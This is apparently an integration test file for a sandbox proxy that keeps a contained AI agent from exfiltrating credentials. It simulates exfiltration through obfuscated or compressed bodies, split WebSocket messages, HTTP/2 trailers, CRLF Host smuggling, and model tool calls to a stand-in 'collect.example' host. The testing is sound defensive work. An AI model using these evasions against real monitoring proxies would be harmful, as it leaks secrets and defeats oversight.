"""No path around the bundle's checks, tried from the agent's seat (issue: a hostile repository or agent gets nothing).

Each attack comes from inside the agent (uid 1000) against hostile servers on
the stand-in internet: an origin that echoes the request into malformed
responses and WebSocket frames, a forge whose errors quote the credential it
was sent, the model host's server tools, a flood of idle connections, and
io_uring. Each test shows the attack refused, scrubbed or capped, and its
benign counterpart still working.

The tests on the shared ``web`` and ``fetcher`` bottles run on docker and on
k8s (``module_seat``); the rest, each with a bottle of its own, on docker.
"""

from __future__ import annotations

import base64
import hashlib
import json
import shlex

import pytest

from .agent_scripts import script
from .bottles import bottle_of, write_manifest
from .test_git_gate import gate_clone, git_records, in_clone, seed_bare
from .test_proxy_policy import bundle_records, last_decision

pytestmark = pytest.mark.integration

REAL = "Vw3kQ8zR1tY6uI9oP2aS5dF7gH4jK0lX-real"
MODEL_KEY = "sk-ant-api03-" + "Zx8cV6bN4mQ2wE0rT8yU6iO4pA2sD0fG8hJ6kL4zX2cV0bN8mQ6wE4rT2yU0iO8pA6sD4fG2hJ0kL8z" + "AA"
GITHUB_TOKEN = "ghp_" + "k3J9xQ2mV7bN4cZ8wL1pR6tY0uH5sD3fG9aE"
ALLOW = ["allowed.test:443", "allowed.test:9443", "allowed.test:22", "denied.test:443"]
#: The one text every error page of the proxy shows for a server's answer it could not relay.
RELAY_ERROR = ("bottle: the server's answer could not be relayed (HTTP 502); the reason is in the bottle's egress log "
               "(bottle logs --egress).\n")


def sealed_bottle(tmp_path_factory, backend: str, internet_egress, name: str, **egress):
    """A bottle on ``backend`` whose secret is bound to allowed.test, with ``egress`` added to its allow-list."""
    folder = tmp_path_factory.mktemp(name)
    with pytest.MonkeyPatch.context() as patch:
        for key, value in {"HOST_TOKEN": REAL, "ANTHROPIC_API_KEY": MODEL_KEY}.items():
            patch.setenv(key, value)
        manifest = write_manifest(folder, {
            "bottles": {name: {"egress": {**internet_egress, "allow": ALLOW, **egress},
                               "secrets": {"TOKEN": {"from_env": "HOST_TOKEN", "hosts": ["allowed.test"]}}}},
            "agents": {name: {"bottle": name}}})
        with bottle_of(manifest, name, backend=backend) as bottle:
            yield bottle


@pytest.fixture(scope="module")
def web(module_seat, tmp_path_factory, internet_egress):
    """One bottle for the module's proxy tests: a secret bound to allowed.test, WebSockets to denied.test only."""
    yield from sealed_bottle(tmp_path_factory, module_seat, internet_egress, "sealed", websockets=["denied.test"])


@pytest.fixture(scope="module")
def fetcher(module_seat, tmp_path_factory, internet_egress):
    """A bottle like ``web`` that allows WebSockets to allowed.test (the secret's host) and web_fetch."""
    yield from sealed_bottle(tmp_path_factory, module_seat, internet_egress, "fetcher",
                             websockets=["allowed.test"], model_server_tools=["web_fetch"])


# -- mitmproxy's own error pages -------------------------------------------------------------------


def test_a_malformed_answer_echoing_the_secret_gets_bottles_own_words(web, origin):
    kinds = ["status", "header", "chunk", "length"]
    # Each kind over HTTP/2 (curl's choice) and HTTP/1.1 to the proxy: mitmproxy builds each one's pages apart.
    cases = [(kind, version) for kind in kinds for version in ("--http2", "--http1.1")]
    script = "; ".join(
        f"echo '=== {kind} {version}'; curl -s -i {version} --max-time 10 -H \"Authorization: Bearer $TOKEN\" "
        f"'https://allowed.test/malformed?kind={kind}'; echo" for kind, version in cases)
    out = web.exec(["sh", "-c", script]).stdout.decode()
    answers = dict(part.split("\n", 1) for part in out.split("=== ")[1:])
    for kind, version in cases:
        answer = answers[f"{kind} {version}"].removeprefix("HTTP/1.1 200 Connection established\r\n\r\n")
        head, _, page = answer.partition("\r\n\r\n")
        assert head.split(" ")[1] == "502", (kind, version, answer)
        assert page.strip() == RELAY_ERROR.strip(), (kind, version, answer)
    # The origin did receive the real value (the request was allowed) and put it in its answers ...
    assert len([r for r in origin.requests() if r["path"].startswith("/malformed")]) == len(cases)
    # ... but neither the value, the placeholder, nor anything the origin wrote reached the agent.
    assert REAL not in out and "you sent" not in out and "Bearer" not in out
    # The user finds the reason in the egress log, with no real value in it.
    records = [r for r in bundle_records(web) if r.get("path") == "/malformed"]
    assert len(records) == len(cases) and all(r.get("error") for r in records)
    assert REAL not in json.dumps(records)


def test_a_well_formed_echo_from_the_bound_host_still_answers_with_the_placeholder(web, origin):
    placeholder = web.exec(["printenv", "TOKEN"]).stdout.decode().strip()
    out = web.exec(["sh", "-c", "curl -s --max-time 10 -H \"Authorization: Bearer $TOKEN\" https://allowed.test/echo"])
    headers = {key.lower(): value for key, value in json.loads(out.stdout)["headers"].items()}
    assert headers["authorization"] == f"Bearer {placeholder}"
    assert REAL not in out.stdout.decode()


def test_a_reason_phrase_quoting_the_secret_comes_back_scrubbed(web, origin):
    placeholder = web.exec(["printenv", "TOKEN"]).stdout.decode().strip()
    out = web.exec(["sh", "-c", "curl -s -i --http1.1 --max-time 10 -H \"Authorization: Bearer $TOKEN\" "
                                "'https://allowed.test/echo?reason=1'"]).stdout.decode()
    status_line = out.removeprefix("HTTP/1.1 200 Connection established\r\n\r\n").split("\r\n", 1)[0]
    assert status_line == f"HTTP/1.1 200 you sent Bearer {placeholder}", out
    assert REAL not in out


def test_a_redirect_quoting_the_secret_comes_back_scrubbed_and_never_carries_it_to_another_host(web, origin):
    placeholder = web.exec(["printenv", "TOKEN"]).stdout.decode().strip()
    # The bound host's redirect quotes the real value (swapped in on the way out) in Location, Refresh, Link and
    # Set-Cookie: each reaches the agent with the placeholder in its place.
    head = web.exec(["sh", "-c", "curl -sS --max-time 10 -o /dev/null -D - -H \"Authorization: Bearer $TOKEN\" "
                                 "'https://allowed.test/bounce?to=https://denied.test/echo'"]).stdout.decode()
    quoted = {line.split(":", 1)[0].lower() for line in head.splitlines() if placeholder in line}
    assert {"location", "refresh", "link", "set-cookie"} <= quoted and REAL not in head, head
    # Followed with the credential (curl's --location-trusted): the placeholder (in the URL and the header) never
    # goes to the other host (a 403 naming the secret), so neither does the value; the other host receives nothing.
    followed = web.exec(["sh", "-c", "curl -sS --max-time 10 -L --location-trusted -H \"Authorization: Bearer $TOKEN\" "
                                     "'https://allowed.test/bounce?to=https://denied.test/echo'"]).stdout.decode()
    assert followed.startswith("bottle: refused (rule secret-") and "secret TOKEN" in followed, followed
    assert REAL not in followed
    # The benign counterpart: a redirect to the bound host itself is followed with the value swapped in again.
    back = web.exec(["sh", "-c", "curl -sS --max-time 10 -L -H \"Authorization: Bearer $TOKEN\" "
                                 "'https://allowed.test/bounce?to=https://allowed.test/echo'"]).stdout.decode()
    assert json.loads(back)["path"] == f"/echo?t={placeholder}" and REAL not in back, back
    received = origin.requests()
    assert [(r["headers"]["host"], r["path"].split("?")[0]) for r in received] == [
        ("allowed.test", "/bounce"), ("allowed.test", "/bounce"), ("allowed.test", "/bounce"),
        ("allowed.test", "/echo")], received
    assert {r["headers"]["authorization"] for r in received} == {
        "sha256:" + hashlib.sha256(f"Bearer {REAL}".encode()).hexdigest()}


def test_a_credential_in_a_header_name_and_a_method_of_the_agents_making_are_refused(web, origin):
    """Every part of a request's head is read, not only the URL and the header values."""
    forms = {"header name": (f"-H '{GITHUB_TOKEN}: 1'", "credential"),
             "header name, HTTP/1.1": (f"--http1.1 -H 'x-{GITHUB_TOKEN}: 1'", "credential"),
             # A method is a free-form token: only registered ones go, whatever they would carry.
             "method": (f"-X {GITHUB_TOKEN}", "method"), "method, encoded": ("-X MZXW6YTBOI", "method")}
    for form, (args, rule) in forms.items():
        out = web.exec(["sh", "-c", f"curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 {args} "
                                    "https://allowed.test/"]).stdout.decode()
        assert out == "403", (form, out)
        assert last_decision(web, host="allowed.test", status=403)["rule"] == rule, form
    # An HTTP/1.1 request line mitmproxy does not take for HTTP is relayed as a raw tunnel (the port is listed
    # explicitly), and read as one: the credential closes it.
    out = web.exec(["sh", "-c", f"curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 --http1.1 -X {GITHUB_TOKEN} "
                                "https://allowed.test/"]).stdout.decode()
    assert out == "000", out
    assert last_decision(web, method="TCP", host="allowed.test")["rule"] == "credential"
    seen = json.dumps(origin.requests()).lower()
    assert GITHUB_TOKEN.lower() not in seen and "mzxw6ytboi" not in seen
    # Benign: a registered method outside the everyday ones, and an ordinary extra header, arrive.
    out = web.exec(["sh", "-c", "curl -s -o /dev/null -w '%{http_code}' --max-time 10 -X PROPFIND "
                                "-H 'X-Request-Id: 4f1c2a' https://allowed.test/"]).stdout.decode()
    assert out == "200", out
    arrived = [r for r in origin.requests() if r.get("method") == "PROPFIND"]
    assert arrived and arrived[0]["headers"].get("x-request-id") == "4f1c2a"


#: Through the proxy to allowed.test:22 (a listed raw tunnel to the origin's line protocol): send "recall", print
#: everything the server sent back.
RECALL_CLIENT = script(r"""
sock = tunnel("allowed.test", 22, None, timeout=10)
sock.sendall(b"recall\r\n")
print(read_all(sock, until=b"you sent").decode("utf-8", "replace"))
""")


def test_a_raw_tunnel_from_the_secrets_host_comes_back_scrubbed(web, origin):
    placeholder = web.exec(["printenv", "TOKEN"]).stdout.decode().strip()
    # The origin receives the real value over HTTPS (the placeholder swapped in), then hands it back through a
    # raw tunnel: the agent reads the placeholder.
    web.check(["sh", "-c", "curl -s -o /dev/null --max-time 10 -H \"Authorization: Bearer $TOKEN\" https://allowed.test/"])
    out = web.exec(["python3", "-c", RECALL_CLIENT]).stdout.decode()
    assert f"you sent Bearer {placeholder}" in out, out
    assert REAL not in out
    assert last_decision(web, method="TCP", host="allowed.test").get("scrubbed") == 1


def post_made_by_the_agent(web, imports: str, content: str, expression: str, path: str) -> str:
    """The status of a POST to https://allowed.test``path`` whose body the agent makes in Python: ``expression``
    of ``d`` (``content``), after ``import imports``."""
    script = f"import sys, {imports}; d = {content!r}; sys.stdout.buffer.write({expression})"
    return web.exec(["sh", "-c", f"python3 -c {shlex.quote(script)} | curl -s -o /dev/null -w '%{{http_code}}' "
                                 f"--max-time 10 --data-binary @- https://allowed.test{path}"]).stdout.decode()


def test_a_credential_compressed_before_it_is_sent_is_refused(web, origin):
    """What the agent compresses itself (no Content-Encoding said) is opened and read as it would be plain."""
    packers = {"bzip2": "bz2.compress(d)", "xz": "lzma.compress(d)", "zlib": "zlib.compress(d)",
               "gzip twice": "gzip.compress(gzip.compress(d))"}
    for name, packer in packers.items():
        for content, expected in ((f"note {GITHUB_TOKEN}", "403"), ("an ordinary note", "200")):
            out = post_made_by_the_agent(web, "bz2, gzip, lzma, zlib", content, packer.replace("(d)", "(d.encode())"),
                                         "/upload")
            assert out == expected, (name, content, out)
    arrived = [r for r in origin.requests() if r.get("path") == "/upload"]
    assert len(arrived) == len(packers)  # the ordinary ones only


def test_a_credential_disguised_by_a_trivial_obfuscation_is_refused(web, origin):
    """Reversed, ROT13, spaced out, zero-width-joined, fullwidth, octal, char codes, UTF-16, wrapped base64: refused;
    the same treatment of an ordinary note arrives."""
    obfuscations = {
        "reversed": "d[::-1]",
        "rot13": "codecs.encode(d, 'rot13')",
        "spaced": "' '.join(d)",
        "zero-width": "'\\u200b'.join(d)",
        "fullwidth": "''.join(chr(ord(c) + 0xfee0) if '!' <= c <= '~' else c for c in d)",
        "octal escapes": "''.join('\\\\%03o' % ord(c) for c in d)",
        "char codes": "str([ord(c) for c in d])",
        "quoted-printable": "''.join('=%02X' % ord(c) for c in d)",
    }
    raw = {
        "utf-16": "d.encode('utf-16-le')",
        "base64 in lines": "b'\\n'.join(base64.b64encode(d.encode())[i:i + 12] for i in range(0, 80, 12))",
    }
    cases = {name: f"({code}).encode('utf-8')" for name, code in obfuscations.items()} | raw
    for name, encoder in cases.items():
        for content, expected in ((f"note {GITHUB_TOKEN}", "403"), ("an ordinary note about the weather", "200")):
            out = post_made_by_the_agent(web, "base64, codecs", content, encoder, "/upload-plain")
            assert out == expected, (name, content, out)
            if expected == "403":
                record = last_decision(web, host="allowed.test", method="POST")
                assert (record["decision"], record["rule"]) == ("deny", "credential"), (name, record)
    arrived = [r for r in origin.requests() if r.get("path") == "/upload-plain"]
    assert len(arrived) == len(cases)  # the ordinary ones only


def test_a_body_past_what_inspection_reads_is_refused_before_it_is_read(web, origin):
    big = web.exec(["sh", "-c", "head -c 100M /dev/zero > /tmp/big && curl -s -o /dev/null -w '%{http_code}' "
                                "--max-time 60 --data-binary @/tmp/big https://allowed.test/upload-big; "
                                "rm -f /tmp/big"]).stdout.decode()
    assert big == "000", big  # the stream ended at once, no answer
    record = last_decision(web, host="allowed.test", path="/upload-big")
    assert (record["decision"], record["rule"], record["status"]) == ("deny", "inspection-limit", 413)
    # The proxy goes on answering at once, and a body within the bound goes.
    out = web.exec(["sh", "-c", "head -c 5M /dev/zero | curl -s -o /dev/null -w '%{http_code}' --max-time 60 "
                                "--data-binary @- https://allowed.test/upload-small"]).stdout.decode()
    assert out == "200", out
    assert [r["path"] for r in origin.requests() if r["path"].startswith("/upload-")] == ["/upload-small"]


# -- WebSockets --------------------------------------------------------------------------------------

#: A WebSocket client (RFC 6455, standard library) run in the agent: through the proxy, over TLS, to HOST/ws.
#: argv: host, then messages to send ("ping:TEXT" sends a ping); prints JSON {status, frames: [[opcode, text]...], closed}. With WS_AUTH set,
#: the upgrade request carries ``Authorization: Bearer $TOKEN`` (the placeholder, swapped for the real value).
WS_CLIENT = r'''
import base64, json, os, socket, ssl, struct, sys
from urllib.parse import urlsplit
host, messages = sys.argv[1], sys.argv[2:]
proxy = urlsplit(os.environ["HTTPS_PROXY"])
raw = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
raw.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
def head(sock):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(1)
        if not chunk:
            break
        data += chunk
    return data.decode("latin-1")
assert " 200 " in head(raw).split("\r\n")[0]
context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
context.set_alpn_protocols(["http/1.1"])
sock = context.wrap_socket(raw, server_hostname=host)
key = base64.b64encode(os.urandom(16)).decode()
sock.sendall((f"GET {os.environ.get('WS_PATH') or '/ws'} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
              f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
              + (f"Authorization: Bearer {os.environ['TOKEN']}\r\n" if os.environ.get("WS_AUTH") else "")
              + "\r\n").encode())
answer = head(sock)
result = {"status": int(answer.split(" ")[1]) if answer else 0, "frames": [], "closed": False}
def exact(n):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data
def frame():
    first = exact(2)
    size = first[1] & 0x7F
    size = struct.unpack("!H", exact(2))[0] if size == 126 else struct.unpack("!Q", exact(8))[0] if size == 127 else size
    return first[0] & 0x0F, exact(size)
def send(opcode, payload):
    mask = os.urandom(4)
    size = len(payload)
    length = bytes([0x80 | size]) if size < 126 else bytes([0x80 | 126]) + struct.pack("!H", size)
    sock.sendall(bytes([0x80 | opcode]) + length + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
def read_until_data():
    while True:
        opcode, payload = frame()
        result["frames"].append([opcode, payload.decode("utf-8", "replace")])
        if opcode in (1, 2, 8):
            return opcode
try:
    if result["status"] == 101:
        for _ in range(int(os.environ.get("WS_GREETINGS") or 1)):
            read_until_data()      # the server's greeting (two messages when it splits it)
        for message in messages:
            if message.startswith("ping:"):
                send(9, message[5:].encode())  # a control frame: nothing comes back to wait for
                continue
            send(1, message.encode())
            if read_until_data() == 8:
                break
        send(8, struct.pack("!H", 1000))
        read_until_data()          # the close answer, with its reason
except (EOFError, OSError):
    result["closed"] = True
print(json.dumps(result))
'''


def websocket(bottle, host: str, *messages: str, auth: bool = False, split: int | None = None) -> dict:
    """``split``: the server sends its greeting (quoting the Authorization header) as two messages, cut that many
    bytes into the header's value (``/ws?split=N``)."""
    path, greetings = ("/ws", 1) if split is None else (f"/ws?split={split}", 2)
    out = bottle.exec(["env", f"WS_AUTH={'1' if auth else ''}", f"WS_PATH={path}", f"WS_GREETINGS={greetings}",
                       "python3", "-c", WS_CLIENT, host, *messages])
    assert out.returncode == 0, out.stderr.decode()
    return json.loads(out.stdout)


def test_websockets_go_only_to_listed_hosts(web, origin):
    refused = websocket(web, "allowed.test", auth=True)
    assert refused["status"] == 403
    assert not [r for r in origin.requests() if r["path"] == "/ws"]
    records = [r for r in bundle_records(web) if r.get("path") == "/ws" and r.get("host") == "allowed.test"]
    assert records and records[-1]["rule"] == "websocket"
    # Listed: the connection opens and messages go both ways.
    listed = websocket(web, "denied.test", "hello there")
    assert listed["status"] == 101 and [1, "echo: hello there"] in listed["frames"], listed


def test_websocket_messages_carrying_a_credential_or_placeholder_never_leave(web, origin):
    placeholder = web.exec(["printenv", "TOKEN"]).stdout.decode().strip()
    for payload in (f"note {GITHUB_TOKEN} end", f"token={placeholder}"):
        sent = websocket(web, "denied.test", "first, harmless", payload, "after")
        assert sent["status"] == 101
        assert [1, "echo: first, harmless"] in sent["frames"]
        # The refused message is never echoed, nor anything after it: the connection is closed.
        assert sent["closed"] and not any("echo: " + payload == text or text == "echo: after"
                                          for _, text in sent["frames"]), sent
    # Split over two messages, each harmless alone: the second is read with the end of the first.
    half = len(GITHUB_TOKEN) // 2
    split = websocket(web, "denied.test", f"part one {GITHUB_TOKEN[:half]}", GITHUB_TOKEN[half:] + " part two",
                      "after")
    assert split["status"] == 101 and split["closed"], split
    assert not any(text in ("echo: " + GITHUB_TOKEN[half:] + " part two", "echo: after")
                   for _, text in split["frames"]), split
    # Its counterpart: two ordinary messages in a row both arrive.
    both = websocket(web, "denied.test", "part one of a note", "part two of a note")
    assert [1, "echo: part one of a note"] in both["frames"] and [1, "echo: part two of a note"] in both["frames"]
    arrived = json.dumps([r for r in origin.requests() if r.get("scheme") == "websocket"])
    assert "first, harmless" in arrived
    assert GITHUB_TOKEN not in arrived and placeholder not in arrived
    assert GITHUB_TOKEN[half:] not in arrived
    # A ping is a control frame, outside the message hook: one carrying a credential arrives emptied.
    pinged = websocket(web, "denied.test", f"ping:note {GITHUB_TOKEN}", "ping:just a ping", "after the pings")
    assert [1, "echo: after the pings"] in pinged["frames"], pinged
    pings = [r["data"] for r in origin.requests() if r.get("ping")]
    assert pings == ["", "just a ping"], pings
    refusals = [r for r in bundle_records(web) if r.get("method") == "WEBSOCKET"]
    assert {r["rule"] for r in refusals} >= {"credential", "secret-value"}
    assert GITHUB_TOKEN not in json.dumps(refusals)


def test_websocket_frames_from_the_secrets_host_come_back_scrubbed(fetcher, origin):
    placeholder = fetcher.exec(["printenv", "TOKEN"]).stdout.decode().strip()
    got = websocket(fetcher, "allowed.test", "hello", auth=True)
    assert got["status"] == 101, got
    texts = [text for _, text in got["frames"]]
    # The server quoted the real value (it received it) in a message, a ping and a close reason: each arrives
    # with the placeholder in its place.
    assert f"you sent Bearer {placeholder}" in texts  # the message
    assert [9, f"you sent Bearer {placeholder}"] in got["frames"]  # the ping
    assert "echo: hello" in texts
    assert REAL not in json.dumps(got)


def test_a_real_value_its_host_splits_over_two_messages_never_arrives_in_pieces(fetcher, origin):
    placeholder = fetcher.exec(["printenv", "TOKEN"]).stdout.decode().strip()
    for cut in (3, 20, len(REAL) - 1):
        got = websocket(fetcher, "allowed.test", "hello", "hello again", auth=True, split=cut)
        assert got["status"] == 101, got
        first, second = [text for opcode, text in got["frames"] if opcode == 1][:2]
        seen = json.dumps(got)
        # At most a short beginning of the value ends the first message; the message completing it is withheld.
        assert first.startswith("you sent Bearer ") and len(longest_piece(seen, REAL)) < 8, (cut, got)
        assert second.startswith("bottle: this message was withheld"), (cut, got)
        # The benign counterpart: ordinary messages after it arrive unchanged, as does the ping quoting the value.
        assert ["echo: hello", "echo: hello again"] == [text for _, text in got["frames"] if text.startswith("echo")]
        assert [9, f"you sent Bearer {placeholder}"] in got["frames"]
    assert REAL not in json.dumps(bundle_records(fetcher))


def longest_piece(seen: str, value: str) -> str:
    """The longest part of ``value`` that ``seen`` holds."""
    pieces = [value[i:j] for i in range(len(value)) for j in range(i + 1, len(value) + 1) if value[i:j] in seen]
    return max(pieces, key=len, default="")


# -- HTTP/2 trailers ---------------------------------------------------------------------------------

#: An HTTP/2 client in the agent (python3-h2, lent from the test-server image): one POST through the proxy to
#: allowed.test:9443 with the placeholder as its Authorization and request trailers from argv
#: (name=value ...); prints the status, the body and the response trailers as JSON.
H2_CLIENT = script(r"""
import json
import h2.connection, h2.events
path, trailers = sys.argv[1], [tuple(pair.split("=", 1)) for pair in sys.argv[2:]]
sock = tunnel("allowed.test", 9443, "h2")
connection = h2.connection.H2Connection()
connection.initiate_connection()
connection.send_headers(1, [(":method", "POST"), (":scheme", "https"), (":authority", "allowed.test:9443"),
                            (":path", path), ("authorization", "Bearer " + os.environ["TOKEN"])])
connection.send_data(1, b"the body", end_stream=not trailers)
if trailers:
    connection.send_headers(1, trailers, end_stream=True)
sock.sendall(connection.data_to_send())
result = {"status": None, "body": "", "trailers": {}, "reset": False}
done = False
while not done:
    data = sock.recv(65536)
    if not data:
        break
    for event in connection.receive_data(data):
        if isinstance(event, h2.events.ResponseReceived):
            result["status"] = int(dict(event.headers)[b":status"])
        elif isinstance(event, h2.events.DataReceived):
            result["body"] += event.data.decode("utf-8", "replace")
            connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.TrailersReceived):
            result["trailers"] = {k.decode(): v.decode() for k, v in event.headers}
        elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated)):
            result["reset"] = not isinstance(event, h2.events.StreamEnded)
            done = True
    sock.sendall(connection.data_to_send())
print(json.dumps(result))
""")


@pytest.fixture(scope="module")
def h2_client(web, docker_client, server_image):
    """Where the agent finds python3-h2 (and hpack, hyperframe): copied in from the test-server image."""
    import io
    import tarfile

    container = docker_client.containers.create(server_image, command=["true"])
    files = {}
    try:
        for package in ("h2", "hpack", "hyperframe"):
            stream, _ = container.get_archive(f"/usr/lib/python3/dist-packages/{package}")
            with tarfile.open(fileobj=io.BytesIO(b"".join(stream))) as part:
                files.update({member.name: part.extractfile(member).read()
                              for member in part.getmembers() if member.isfile()})
    finally:
        container.remove(force=True)
    libs = f"{web.plan.guest.home}/.h2lib"
    web.write_files(libs, files)
    return libs


def h2_request(bottle, libs: str, path: str, *trailers: str) -> dict:
    out = bottle.exec(["env", f"PYTHONPATH={libs}", "python3", "-c", H2_CLIENT, path, *trailers])
    assert out.returncode == 0, out.stderr.decode()
    return json.loads(out.stdout)


def test_http2_request_trailers_are_inspected_like_headers(web, origin, h2_client):
    # Benign: the trailer reaches the origin (so the path is real, and what is refused below is refused by rule).
    fine = h2_request(web, h2_client, "/echo", "x-note=all good")
    assert fine["status"] == 200 and json.loads(fine["body"])["trailers"] == {"x-note": "all good"}, fine
    refused = h2_request(web, h2_client, "/echo", f"x-note=note {GITHUB_TOKEN}")
    assert refused["status"] == 403, refused
    arrived = json.dumps([r for r in origin.requests() if r.get("scheme") == "h2"])
    assert "all good" in arrived and GITHUB_TOKEN not in arrived
    denied = [r for r in bundle_records(web) if r.get("host") == "allowed.test" and r.get("port") == 9443
              and r.get("status") == 403]
    assert [r["rule"] for r in denied] == ["credential"] and GITHUB_TOKEN not in json.dumps(denied), denied


#: One HTTP/2 request with the header list given as JSON (argv[2], pseudo-headers included, sent unchecked by the
#: client's library) through a tunnel to allowed.test:argv[1], and with a body and trailers (argv[3], JSON) when
#: given; prints the status, the body and how the stream ended.
H2_RAW = script(r"""
import json
import h2.config, h2.connection, h2.events
port, headers = int(sys.argv[1]), [tuple(pair) for pair in json.loads(sys.argv[2])]
trailers = [tuple(pair) for pair in json.loads(sys.argv[3])] if len(sys.argv) > 3 else []
sock = tunnel("allowed.test", port, "h2")
connection = h2.connection.H2Connection(h2.config.H2Configuration(validate_outbound_headers=False,
                                                                  normalize_outbound_headers=False))
connection.initiate_connection()
connection.send_headers(1, headers, end_stream=not trailers)
if trailers:
    connection.send_data(1, b"the body")
    connection.send_headers(1, trailers, end_stream=True)
sock.sendall(connection.data_to_send())
result = {"status": None, "body": "", "ended": None}
while result["ended"] is None:
    data = sock.recv(65536)
    if not data:
        result["ended"] = "closed"
    for event in connection.receive_data(data):
        if isinstance(event, h2.events.ResponseReceived):
            result["status"] = int(dict(event.headers)[b":status"])
        elif isinstance(event, h2.events.DataReceived):
            result["body"] += event.data.decode("utf-8", "replace")
            connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated)):
            result["ended"] = type(event).__name__
    sock.sendall(connection.data_to_send())
print(json.dumps(result))
""")


def h2_raw(bottle, libs: str, port: int, headers: list[tuple[str, str]],
           trailers: list[tuple[str, str]] | None = None) -> dict:
    out = bottle.exec(["env", f"PYTHONPATH={libs}", "python3", "-c", H2_RAW, str(port), json.dumps(headers),
                       *([json.dumps(trailers)] if trailers else [])])
    assert out.returncode == 0, out.stderr.decode()
    return json.loads(out.stdout)


def test_http2_requests_naming_another_host_or_hiding_a_header_are_refused(web, origin, h2_client):
    get = [(":method", "GET"), (":scheme", "https"), (":authority", "allowed.test"), (":path", "/echo")]
    # A CR LF inside a header's value: the request goes on to the origin as HTTP/1.1, where it would be a line of
    # its own (a Host the policy never judged). Refused, with the rule named.
    hidden = h2_raw(web, h2_client, 443, [*get, ("x-a", "a\r\nHost: denied.test")])
    assert hidden["status"] == 400 and "rule header-syntax" in hidden["body"], hidden
    in_trailer = h2_raw(web, h2_client, 443, [(":method", "POST"), *get[1:]], [("x-t", "a\r\nHost: denied.test")])
    assert in_trailer["status"] == 400 and "rule header-syntax" in in_trailer["body"], in_trailer
    # An :authority naming another host than the tunnel's, a Host header beside an :authority, and an extended
    # CONNECT (:protocol): refused by rule, or the connection ended by the proxy as a protocol error.
    fronted = h2_raw(web, h2_client, 443, [*get[:2], (":authority", "denied.test"), get[3]])
    assert fronted["status"] == 403 and "rule host-mismatch" in fronted["body"], fronted
    for headers in ([*get, ("host", "denied.test")],
                    [(":method", "CONNECT"), (":protocol", "websocket"), *get[1:3], (":path", "/ws")]):
        ended = h2_raw(web, h2_client, 443, headers)
        assert ended["status"] is None and ended["ended"] == "ConnectionTerminated", (headers, ended)
    assert origin.requests() == []
    # The benign counterpart: an ordinary HTTP/2 request, a tab and UTF-8 in a value, reaches the origin as sent.
    fine = h2_raw(web, h2_client, 443, [*get, ("x-note", "a\tb \u00fcber")])
    assert fine["status"] == 200 and json.loads(fine["body"])["headers"]["x-note"] == "a\tb \u00c3\u00bcber", fine


def test_http2_request_heads_are_bounded_too(web, origin, h2_client):
    get = [(":method", "GET"), (":scheme", "https"), (":authority", "allowed.test"), (":path", "/echo")]
    # Past 64 KiB of headers (one long one, or many): the h2 library's bound ends the connection; nothing relayed.
    for extra in ([("x-a", "a" * 100_000)], [(f"x-{i}", "a" * 1000) for i in range(80)]):
        ended = h2_raw(web, h2_client, 443, [*get, *extra])
        assert ended["status"] is None and ended["ended"] == "ConnectionTerminated", ended
    assert origin.requests() == []
    # 16 KiB of cookies pass.
    fine = h2_raw(web, h2_client, 443, [*get, ("cookie", "pref=" + "c" * 16_379)])
    assert fine["status"] == 200 and len(json.loads(fine["body"])["headers"]["cookie"]) == 16_384, fine


#: An HTTP/1.1 chunked POST to allowed.test with one trailer (argv[1]); prints the raw answer.
H1_TRAILER_CLIENT = script(r"""
sock = tunnel("allowed.test", 443, "http/1.1")
sock.sendall(b"POST /echo HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nTrailer: x-note\r\n\r\n"
             b"8\r\nthe body\r\n0\r\nx-note: " + sys.argv[1].encode() + b"\r\n\r\n")
sys.stdout.write(read_all(sock).decode("utf-8", "replace"))
""")


def test_http1_request_trailers_never_pass(web, origin):
    out = web.exec(["python3", "-c", H1_TRAILER_CLIENT, f"note {GITHUB_TOKEN}"])
    assert out.returncode == 0, out.stderr.decode()
    answer = out.stdout.decode()
    assert answer == "", answer  # dropped with its connection
    assert GITHUB_TOKEN not in json.dumps(origin.requests())


def test_http2_response_trailers_from_the_secrets_host_come_back_scrubbed(web, origin, h2_client):
    placeholder = web.exec(["printenv", "TOKEN"]).stdout.decode().strip()
    got = h2_request(web, h2_client, "/trailers")
    # The origin received the real value (the placeholder was swapped in) and quoted it in a trailer.
    assert got["status"] == 200 and got["trailers"].get("grpc-status") == "0", got
    assert got["trailers"]["x-echo-authorization"] == f"Bearer {placeholder}", got
    assert REAL not in json.dumps(got)


# -- the model host's server tools ------------------------------------------------------------------


def messages_request(bottle, body: dict) -> tuple[int, dict | str]:
    out = bottle.exec(["sh", "-c", "curl -s --max-time 20 -w '\\n%{http_code}' https://api.anthropic.com/v1/messages "
                                   "-H 'content-type: application/json' -H \"x-api-key: $ANTHROPIC_API_KEY\" "
                                   f"--data-binary {shlex.quote(json.dumps(body))}"])
    text, _, status = out.stdout.decode().rpartition("\n")
    try:
        return int(status), json.loads(text)
    except ValueError:
        return int(status or 0), text


def body_with(**extra) -> dict:
    return {"model": "claude-sonnet-4-5", "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}], **extra}


FETCHING = {
    "web_fetch": body_with(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    "mcp": body_with(mcp_servers=[{"type": "url", "url": "https://collect.example/mcp", "name": "x"}]),
    "mcp_toolset": body_with(tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}]),
    "url_sources": body_with(messages=[{"role": "user", "content": [
        {"type": "image", "source": {"type": "url", "url": "https://collect.example/?d=secret"}}]}]),
    "code_execution": body_with(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
